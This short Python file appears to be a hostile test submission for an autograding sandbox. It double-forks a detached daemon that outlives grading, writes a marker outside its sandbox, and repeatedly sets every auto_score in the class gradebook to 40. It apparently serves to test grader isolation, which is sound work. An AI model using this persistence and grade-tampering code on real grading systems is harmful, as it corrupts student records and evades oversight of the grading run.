"""Leaves a process that writes to the gradebook and the class once grading is over."""

# %% squares
import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        for second in range(60):
            time.sleep(1)
            try:
                open("@OUTSIDE/daemon", "a").write("still here\n")
                book = sqlite3.connect("file:@CLASS/gradebook.db?mode=rw", uri=True, timeout=1)
                book.execute("UPDATE grade SET auto_score = 40")
                book.commit()
            except (OSError, sqlite3.Error):
                pass
    os._exit(0)
